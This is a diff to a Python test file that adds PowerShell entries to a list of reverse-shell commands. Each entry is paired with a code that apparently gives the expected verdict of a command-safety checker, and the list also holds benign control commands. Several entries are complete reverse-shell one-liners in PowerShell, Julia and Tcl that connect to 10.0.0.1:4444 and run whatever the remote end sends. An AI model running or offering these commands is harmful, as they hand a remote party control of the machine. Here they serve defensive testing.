@@ -32,6 +32,10 @@ def _id(row) -> str:
     return call if isinstance(call, str) else call[0] + " " + str(call[1])
 
 REVERSE_SHELLS = [
+    ('powershell -nop -c "$client = [System.Net.Sockets.TcpClient]::new(\'10.0.0.1\',4444);$stream = $client.GetStream();while(1){$r=iex (New-Object IO.StreamReader($stream)).ReadLine()}"', 'DDDDD'),
+    ('powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient(\'10.0.0.1\',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}"', 'DDDDD'),
+    ('pwsh -c "Write-Host $HOME"', 'KKADD'),
+    ('pwsh -c "$c = [Net.Sockets.TcpClient]::new(\'localhost\', 6379); $c.Connected"', 'KKKDD'),
     ('julia -e \'using Sockets; s=connect("10.0.0.1",4444); while true; eval(Meta.parse(readline(s))); end\'', 'DDDDD'),
     ('tclsh <<< \'set s [socket 10.0.0.1 4444]; while 1 {set c [gets $s]; set p [open "|$c" r]; puts $s [read $p]}\'', 'DDDDD'),
     ("tclsh <<< 'set p [open \"|git log\" r]; puts [read $p]'", 'KKADD'),
